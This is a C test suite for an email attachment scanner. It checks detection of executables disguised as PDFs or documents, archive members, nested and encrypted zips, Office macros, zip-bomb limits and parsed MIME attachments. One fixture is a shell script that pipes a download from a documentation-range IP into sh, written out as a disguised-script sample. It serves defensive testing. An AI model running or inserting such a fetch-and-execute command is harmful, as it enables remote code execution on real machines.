/* lib/attachments.c: types by content, archive members, encrypted archives,
 * macros and every limit, on archives this test writes with libarchive;
 * and classifier/message.c's decoded attachment content. */
#include "config.h"

#include <archive.h>
#include <archive_entry.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attachments.h"
#include "check.h"
#include "message.h"

/* ---- what the walker reported */
static char found[64][48];
static char details[64][256];
static int nfound;

static void collect(void *arg, const char *symbol, const char *detail)
{
	(void)arg;
	if (nfound < 64) {
		snprintf(found[nfound], sizeof found[0], "%s", symbol);
		snprintf(details[nfound], sizeof details[0], "%s", detail);
		nfound++;
	}
}

/* detail of the first report of symbol, or NULL */
static const char *got(const char *symbol)
{
	for (int i = 0; i < nfound; i++)
		if (strcmp(found[i], symbol) == 0)
			return details[i];
	return NULL;
}

static const struct ims_attach_limits defaults = {
    .max_size = 10 << 20, .max_members = 1000, .max_uncompressed = 50 << 20, .max_depth = 3};

static ims_status check_with(const struct ims_attach_limits *lim, const char *name,
                             const char *type, const void *data, size_t len, bool cut)
{
	struct ims_attach_budget b;

	nfound = 0;
	ims_attach_budget_init(&b, lim);
	return ims_attach_check(&b, name, type, data, len, cut, collect, NULL);
}

/* ---- sample content */

/* A minimal PE32 header (what `file` calls "PE32 executable (GUI)"). */
static size_t make_pe(unsigned char *buf)
{
	memset(buf, 0, 640);
	buf[0] = 'M', buf[1] = 'Z';
	buf[0x3c] = 0x40;
	memcpy(buf + 0x40, "PE\0\0", 4);
	buf[0x44] = 0x4c, buf[0x45] = 0x01; /* i386 */
	buf[0x46] = 1;                      /* one section */
	buf[0x54] = 0xe0;                   /* optional header size */
	buf[0x56] = 0x02, buf[0x57] = 0x01; /* executable, 32-bit */
	buf[0x58] = 0x0b, buf[0x59] = 0x01; /* PE32 */
	buf[0x58 + 68] = 2;                 /* GUI subsystem */
	buf[0x58 + 92] = 16;                /* data directories */
	memcpy(buf + 0x58 + 0xe0, ".text", 5);
	return 640;
}

struct entry {
	const char *name;
	const void *data;
	size_t len;
};

/* Writes entries as a zip (with gz: a gzipped tar; gz == 7: a 7z) into buf; returns
 * the size.  With password the zip's entries are encrypted (ZipCrypto). */
static size_t make_archive(unsigned char *buf, size_t cap, const struct entry *e, int n, int gz,
                           const char *password)
{
	struct archive *a = archive_write_new();
	size_t used = 0;

	if (gz == 7) {
		archive_write_set_format_7zip(a);
	} else if (gz) {
		archive_write_add_filter_gzip(a);
		archive_write_set_format_pax_restricted(a);
	} else {
		archive_write_set_format_zip(a);
	}
	if (password) {
		CHECK(archive_write_set_options(a, "zip:encryption=zipcrypt") == ARCHIVE_OK);
		CHECK(archive_write_set_passphrase(a, password) == ARCHIVE_OK);
	}
	CHECK(archive_write_open_memory(a, buf, cap, &used) == ARCHIVE_OK);
	for (int i = 0; i < n; i++) {
		struct archive_entry *ae = archive_entry_new();

		archive_entry_set_pathname(ae, e[i].name);
		archive_entry_set_filetype(ae, AE_IFREG);
		archive_entry_set_perm(ae, 0644);
		archive_entry_set_size(ae, (la_int64_t)e[i].len);
		CHECK(archive_write_header(a, ae) == ARCHIVE_OK);
		CHECK(archive_write_data(a, e[i].data, e[i].len) == (la_ssize_t)e[i].len);
		archive_entry_free(ae);
	}
	CHECK(archive_write_close(a) == ARCHIVE_OK);
	archive_write_free(a);
	return used;
}

static unsigned char pe[640];
static size_t pe_len;

/* ---- cases */

static void test_executable_named_pdf(void)
{
	CHECK(check_with(&defaults, "invoice.pdf", "application/pdf", pe, pe_len, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_EXECUTABLE"), "invoice.pdf: application/");
	CHECK(got("ATTACH_TYPE_MISMATCH") != NULL);
	/* declared as a document, named nothing */
	CHECK(check_with(&defaults, "", "image/jpeg", pe, pe_len, false) == IMS_OK);
	CHECK(got("ATTACH_TYPE_MISMATCH") != NULL);
}

static void test_double_extension_by_content(void)
{
	CHECK(check_with(&defaults, "invoice.pdf.exe", "application/octet-stream", pe, pe_len,
	                 false) == IMS_OK);
	CHECK(got("ATTACH_EXECUTABLE") != NULL);
	/* the name alone is the heuristics' (BAD_/DOUBLE_ATTACHMENT_EXT) */
	CHECK(got("ATTACH_TYPE_MISMATCH") == NULL);
	CHECK(got("BAD_ATTACHMENT_EXT") == NULL);
}

static void test_script_named_doc(void)
{
	static const char sh[] = "#!/bin/sh\ncurl http://198.51.100.9/x | sh\n";

	CHECK(check_with(&defaults, "report.doc", "application/msword", sh, sizeof sh - 1, false) ==
	      IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_TYPE_MISMATCH"), "text/x-shellscript");
}

static void test_harmless(void)
{
	static const char txt[] = "Minutes of the meeting.\nNothing to see.\n";
	static const unsigned char png[] = {0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0,
	                                    0,    13,  'I', 'H', 'D',  'R',  0,    0,    0, 1,
	                                    0,    0,   0,   1,   8,    6,    0,    0,    0, 0x1f};

	CHECK(check_with(&defaults, "notes.txt", "text/plain", txt, sizeof txt - 1, false) ==
	      IMS_OK);
	CHECK(nfound == 0);
	CHECK(check_with(&defaults, "logo.png", "image/png", png, sizeof png, false) == IMS_OK);
	CHECK(nfound == 0);
	CHECK(check_with(&defaults, NULL, NULL, NULL, 0, false) == IMS_OK);
	CHECK(nfound == 0);
}

static void test_zip_member(void)
{
	static unsigned char zip[16384];
	struct entry e[] = {{"readme.txt", "hello", 5}, {"docs/invoice.pdf.exe", pe, pe_len}};
	size_t n = make_archive(zip, sizeof zip, e, 2, 0, NULL);

	CHECK(check_with(&defaults, "scan.zip", "application/zip", zip, n, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("BAD_ATTACHMENT_EXT"), "scan.zip/docs/invoice.pdf.exe");
	CHECK(got("DOUBLE_ATTACHMENT_EXT") != NULL);
	CHECK_STR_CONTAINS(got("ATTACH_EXECUTABLE"), "scan.zip/docs/invoice.pdf.exe");
}

static void test_tar_gz_member(void)
{
	static unsigned char tgz[16384];
	struct entry e[] = {{"invoice.pdf", pe, pe_len}};
	size_t n = make_archive(tgz, sizeof tgz, e, 1, 1, NULL);

	CHECK(check_with(&defaults, "files.tar.gz", "application/gzip", tgz, n, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_TYPE_MISMATCH"), "files.tar.gz/invoice.pdf");
}

static void test_7z_member(void)
{
	static unsigned char z7[16384];
	struct entry e[] = {{"readme.txt", "hello", 5}, {"setup.scr", pe, pe_len}};
	size_t n = make_archive(z7, sizeof z7, e, 2, 7, NULL);

	CHECK(check_with(&defaults, "files.7z", "application/x-7z-compressed", z7, n, false) ==
	      IMS_OK);
	CHECK_STR_CONTAINS(got("BAD_ATTACHMENT_EXT"), "files.7z/setup.scr");
	CHECK_STR_CONTAINS(got("ATTACH_EXECUTABLE"), "files.7z/setup.scr");
}

/* zip(zip(zip(pe))): found at depth 3, not opened past max_depth */
static void test_nested(void)
{
	static unsigned char z1[16384], z2[16384], z3[16384];
	struct entry e1[] = {{"payload.exe", pe, pe_len}};
	size_t n1 = make_archive(z1, sizeof z1, e1, 1, 0, NULL);
	struct entry e2[] = {{"inner.zip", z1, n1}};
	size_t n2 = make_archive(z2, sizeof z2, e2, 1, 0, NULL);
	struct entry e3[] = {{"middle.zip", z2, n2}};
	size_t n3 = make_archive(z3, sizeof z3, e3, 1, 0, NULL);
	struct ims_attach_limits lim = defaults;

	CHECK(check_with(&defaults, "outer.zip", "application/zip", z3, n3, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_EXECUTABLE"), "outer.zip/middle.zip/inner.zip/payload.exe");
	CHECK(got("ARCHIVE_DEPTH_LIMIT") == NULL);
	lim.max_depth = 2;
	CHECK(check_with(&lim, "outer.zip", "application/zip", z3, n3, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ARCHIVE_DEPTH_LIMIT"), "outer.zip/middle.zip/inner.zip");
	CHECK(got("ATTACH_EXECUTABLE") == NULL);
}

static void test_encrypted(void)
{
	static unsigned char zip[16384];
	struct entry e[] = {{"invoice.exe", pe, pe_len}};
	size_t n = make_archive(zip, sizeof zip, e, 1, 0, "infected");

	CHECK(check_with(&defaults, "locked.zip", "application/zip", zip, n, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ARCHIVE_ENCRYPTED"), "locked.zip/invoice.exe");
	CHECK(got("ATTACH_EXECUTABLE") == NULL); /* not decrypted */
}

static void test_ooxml_macro(void)
{
	static unsigned char zip[16384];
	static const char types[] =
	    "<?xml version=\"1.0\"?><Types "
	    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"></Types>";
	struct entry e[] = {{"[Content_Types].xml", types, sizeof types - 1},
	                    {"word/document.xml", "<w:document/>", 13},
	                    {"word/vbaProject.bin", "\xd0\xcf\x11\xe0", 4}};
	size_t n = make_archive(zip, sizeof zip, e, 3, 0, NULL);

	CHECK(check_with(&defaults, "report.docm", "application/octet-stream", zip, n, false) ==
	      IMS_OK);
	CHECK_STR_CONTAINS(got("OFFICE_MACRO"), "report.docm/word/vbaProject.bin");
	CHECK(got("ATTACH_EXECUTABLE") == NULL);
	/* a program embedded in the package is typed like any member */
	{
		struct entry emb[] = {e[0], e[1], {"word/embeddings/oleObject1.bin", pe, pe_len}};

		n = make_archive(zip, sizeof zip, emb, 3, 0, NULL);
		CHECK(check_with(&defaults, "report.docx", "application/octet-stream", zip, n,
		                 false) == IMS_OK);
		CHECK_STR_CONTAINS(got("ATTACH_EXECUTABLE"),
		                   "report.docx/word/embeddings/oleObject1.bin");
	}
	/* the same without the VBA part: nothing */
	n = make_archive(zip, sizeof zip, e, 2, 0, NULL);
	CHECK(check_with(&defaults, "report.docx", "application/octet-stream", zip, n, false) ==
	      IMS_OK);
	CHECK(got("OFFICE_MACRO") == NULL);
}

/* An OLE2 file whose directory holds a "Macros" storage entry. */
static void test_ole_macro(void)
{
	static unsigned char ole[2048];
	static const char *const name = "Macros";

	memset(ole, 0, sizeof ole);
	memcpy(ole, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	CHECK(check_with(&defaults, "old.doc", "application/msword", ole, sizeof ole, false) ==
	      IMS_OK);
	CHECK(got("OFFICE_MACRO") == NULL);
	for (size_t i = 0; i < strlen(name); i++)
		ole[512 + 256 + 2 * i] = (unsigned char)name[i];
	ole[512 + 256 + 64] = (unsigned char)((strlen(name) + 1) * 2);
	CHECK(check_with(&defaults, "old.doc", "application/msword", ole, sizeof ole, false) ==
	      IMS_OK);
	CHECK_STR_CONTAINS(got("OFFICE_MACRO"), "old.doc");
	/* the name in text, not at a directory entry: nothing */
	memmove(ole + 512 + 256 + 2, ole + 512 + 256, 100);
	memset(ole + 512 + 256, 0, 2);
	CHECK(check_with(&defaults, "old.doc", "application/msword", ole, sizeof ole, false) ==
	      IMS_OK);
	CHECK(got("OFFICE_MACRO") == NULL);
}

static void test_limits(void)
{
	static unsigned char zip[65536];
	static char zeros[1 << 20];
	struct entry many[20];
	struct ims_attach_limits lim = defaults;
	size_t n;

	for (int i = 0; i < 20; i++)
		many[i] = (struct entry){"f.txt", "x", 1};
	n = make_archive(zip, sizeof zip, many, 20, 0, NULL);
	lim.max_members = 5;
	CHECK(check_with(&lim, "many.zip", "application/zip", zip, n, false) == IMS_OK);
	CHECK(got("ARCHIVE_MEMBER_LIMIT") != NULL);

	/* a small zip that unpacks to 1 MB: the per-message budget stops it */
	struct entry big[] = {{"zeros.bin", zeros, sizeof zeros}, {"after.exe", pe, pe_len}};
	n = make_archive(zip, sizeof zip, big, 2, 0, NULL);
	lim = defaults;
	lim.max_uncompressed = 64 * 1024;
	CHECK(check_with(&lim, "bomb.zip", "application/zip", zip, n, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ARCHIVE_BYTES_LIMIT"), "bomb.zip/zeros.bin");
	/* one member over max_size */
	lim = defaults;
	lim.max_size = 4096;
	CHECK(check_with(&lim, "big.zip", "application/zip", zip, n, false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_SIZE_LIMIT"), "big.zip/zeros.bin");

	/* the attachment itself was cut by the caller */
	CHECK(check_with(&defaults, "cut.zip", "application/zip", zip, 100, true) == IMS_OK);
	CHECK_STR_CONTAINS(got("ATTACH_SIZE_LIMIT"), "cut.zip");
	CHECK(got("ARCHIVE_UNREADABLE") == NULL); /* not listed */
}

static void test_corrupt(void)
{
	static unsigned char zip[16384];
	struct entry e[] = {{"a.txt", "hello hello hello hello", 23}, {"b.exe", pe, pe_len}};
	size_t n = make_archive(zip, sizeof zip, e, 2, 1, NULL);

	/* a tar.gz cut in its middle */
	CHECK(check_with(&defaults, "broken.tar.gz", "application/gzip", zip, n / 2, false) ==
	      IMS_OK);
	CHECK(got("ARCHIVE_UNREADABLE") != NULL);
	/* bytes flipped after the zip's first local header */
	n = make_archive(zip, sizeof zip, e, 2, 0, NULL);
	for (size_t i = 40; i < n; i += 7)
		zip[i] ^= 0x5a;
	CHECK(check_with(&defaults, "flipped.zip", "application/zip", zip, n, false) == IMS_OK);
}

/* An mtree spec (text naming files of this machine, which libarchive's
 * mtree reader opens) dressed as an ISO image for libmagic: it must not be
 * read as an mtree (it is no archive of a format ims opens). */
static void test_no_mtree(void)
{
	static char buf[40000];
	static const char spec[] = "#mtree\nx type=file size=640 contents=/etc/hostname\n";

	memset(buf, '\n', sizeof buf);
	memcpy(buf, spec, sizeof spec - 1);
	memcpy(buf + 32769, "CD001", 5);
	CHECK(check_with(&defaults, "disk.iso", "application/octet-stream", buf, sizeof buf,
	                 false) == IMS_OK);
	CHECK_STR_CONTAINS(got("ARCHIVE_UNREADABLE"), "disk.iso");
}

/* classifier/message.c hands out the decoded bytes of each attachment */
static void test_parsed_content(void)
{
	static const char raw[] =
	    "From: a@example.org\r\nTo: b@example.test\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
	    "--b1\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
	    "--b1\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment; filename=\"a.bin\"\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\naGVsbG8gd29ybGQ=\r\n--b1--\r\n";
	struct ims_parsed *p = NULL;
	char *data = NULL;
	size_t len = 0;
	bool cut = true;

	CHECK(ims_parse_message(raw, sizeof raw - 1, &p) == IMS_OK);
	CHECK(ims_parsed_attachment_content(p, 0, 1000, &data, &len, &cut) == IMS_OK);
	CHECK(len == 11 && data && memcmp(data, "hello world", 11) == 0 && !cut);
	free(data);
	CHECK(ims_parsed_attachment_content(p, 0, 5, &data, &len, &cut) == IMS_OK);
	CHECK(len == 5 && memcmp(data, "hello", 5) == 0 && cut);
	free(data);
	CHECK(ims_parsed_attachment_content(p, 1, 5, &data, &len, &cut) == IMS_ENOTFOUND);
	ims_parsed_free(p);
}

int main(void)
{
	pe_len = make_pe(pe);
	RUN(test_executable_named_pdf);
	RUN(test_double_extension_by_content);
	RUN(test_script_named_doc);
	RUN(test_harmless);
	RUN(test_zip_member);
	RUN(test_tar_gz_member);
	RUN(test_7z_member);
	RUN(test_nested);
	RUN(test_encrypted);
	RUN(test_ooxml_macro);
	RUN(test_ole_macro);
	RUN(test_limits);
	RUN(test_corrupt);
	RUN(test_no_mtree);
	RUN(test_parsed_content);
	return CHECK_DONE();
}
